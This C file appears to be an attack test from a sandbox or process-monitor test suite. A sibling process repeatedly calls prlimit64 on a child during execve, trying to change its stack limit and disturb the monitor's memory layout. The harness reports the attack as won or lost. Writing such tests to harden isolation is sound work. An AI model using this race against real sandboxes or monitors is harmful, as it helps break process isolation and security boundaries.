// The same limit, set by a sibling while execve is under way: whatever the monitor sets itself before.
// The next program may die of it, but not run with its monitor in the window.
#include "attack.h"
#include <sys/resource.h>

int main(int argc, char **argv) {
    attack_check_native();
    if (argc > 1) {
        usleep(20000);
        return 0;
    }
    struct rlimit big = {96UL << 40, RLIM_INFINITY};
    volatile int *victim = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pid_t sibling = fork();
    if (sibling < 0)
        attack_broken("fork");
    if (sibling == 0)
        for (;;)
            if (*victim)
                syscall(SYS_prlimit64, *victim, RLIMIT_STACK, &big, NULL);
    (void)argv;
    while (!attack_over()) {
        pid_t pid = fork();
        if (pid == 0) {
            struct rlimit space = {400UL << 20, RLIM_INFINITY};
            if (getpid() & 1) // what the monitor maps to look where it is cannot be counted then
                setrlimit(RLIMIT_AS, &space);
            *victim = getpid();
            execl("/proc/self/exe", "layout", "1", NULL);
            _exit(0);
        }
        int status = 0;
        waitpid(pid, &status, 0);
        *victim = 0;
        if (attack_child_won(status))
            attack_won("a sibling's prlimit moved the monitor");
    }
    kill(sibling, SIGKILL);
    attack_lost();
}
